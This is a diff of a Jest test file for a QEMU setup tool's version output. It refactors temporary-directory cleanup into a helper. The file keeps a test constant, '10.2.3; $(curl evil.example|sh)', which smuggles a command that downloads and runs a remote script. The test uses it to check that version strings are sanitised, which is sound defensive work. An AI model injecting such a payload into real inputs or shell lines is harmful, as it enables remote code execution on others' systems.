@@ -2,10 +2,9 @@
  * The `qemu-version` output: a plain version number or nothing, wherever it was read from, since a
  * workflow may put it into a shell line.
  */
-import { afterAll, beforeEach, describe, expect, it } from '@jest/globals'
+import { beforeEach, describe, expect, it } from '@jest/globals'
 import { createHash } from 'node:crypto'
 import * as fs from 'node:fs'
-import * as os from 'node:os'
 import * as path from 'node:path'
 import { findCached } from '../../src/acquire/tool-cache/read.js'
 import { storeInCache } from '../../src/acquire/tool-cache/publish.js'
@@ -16,6 +15,7 @@ import { byArch } from '../../src/platform/platforms.js'
 import { buildProbe } from '../../src/platform/elf.js'
 import { outputsFor } from '../../src/report/report.js'
 import { captureOutput } from '../helpers/output.js'
+import { tempDirs } from '../helpers/tmp.js'
 
 const HOSTILE = '10.2.3; $(curl evil.example|sh)'
 
@@ -48,15 +48,7 @@ describe('a QEMU version', () => {
 })
 
 describe('is taken only as a plain version, wherever it is read', () => {
-  const made: string[] = []
-  const tmp = (p: string): string => {
-    const dir = fs.mkdtempSync(path.join(os.tmpdir(), `sq-version-${p}-`))
-    made.push(dir)
-    return dir
-  }
-  afterAll(() => {
-    for (const dir of made) fs.rmSync(dir, { recursive: true, force: true })
-  })
+  const tmp = tempDirs('sq-version')
   captureOutput()
   beforeEach(() => {
     process.env.RUNNER_TOOL_CACHE = tmp('toolcache')
